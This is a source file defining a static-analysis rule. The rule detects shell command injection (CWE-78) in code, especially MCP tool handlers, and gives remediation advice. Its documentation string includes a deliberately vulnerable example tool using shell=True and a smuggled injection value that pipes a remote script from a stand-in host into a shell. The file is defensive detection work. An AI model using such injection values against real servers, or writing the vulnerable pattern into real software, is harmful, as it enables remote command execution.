import { defineRule } from '../../types.js';
import { judge, reportSink, shellInput } from './sinks.js';

export const shellInjection = defineRule({
  meta: {
    id: 'CODE-001',
    title: 'Shell command built from non-constant input',
    severity: 'critical',
    confidence: 'likely',
    owasp_category: 'LLM06',
    owasp_mcp: 'MCP05',
    cwe: 'CWE-78',
    hipaa_mapping: '45 CFR 164.312(a)(1)',
    description:
      'The code runs a shell command (or chooses the program to run) from a value that is not a constant. When a tool argument reaches it, whoever steers the model can run any command on the server.',
    remediation:
      'Do not use a shell: pass a fixed program and an argument list (subprocess.run([...]) without shell=True, execFile/spawn without shell). Validate arguments against an allow-list, and quote with shlex.quote only as a last resort.',
    monitor_candidate: false,
    docs: 'Flags `os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `asyncio.create_subprocess_shell`, `child_process.exec/execSync` and `spawn/execFile` with `shell: true` when the command is not a constant, and any process start whose program comes from a tool argument. Inside an MCP tool handler a parameter that flows into the command (through assignments, f-strings, concatenation, `str()`, `os.path.join`, template literals) makes the finding `likely`; a non-constant command elsewhere is `possible`. Example: `@mcp.tool()\\ndef grep(pattern: str):\\n    return subprocess.run(f"grep -r {pattern} /data", shell=True)` — the argument `x; curl evil.sh | sh` runs a second command.',
  },
  artifact: 'source-file',
  check(source, context) {
    for (const call of source.calls) {
      const input = shellInput(call);
      if (!input) continue;
      // A program chosen without a shell is only a finding when a tool argument chooses it.
      if (input.role === 'program' && input.value.taint.length === 0) continue;
      const verdict = judge(input.value);
      if (!verdict) continue;
      const what =
        input.role === 'program'
          ? 'The program this call starts is chosen at run time'
          : 'This call runs a shell command built at run time';
      reportSink(context.report, source, call, verdict, what, 'high');
    }
  },
});
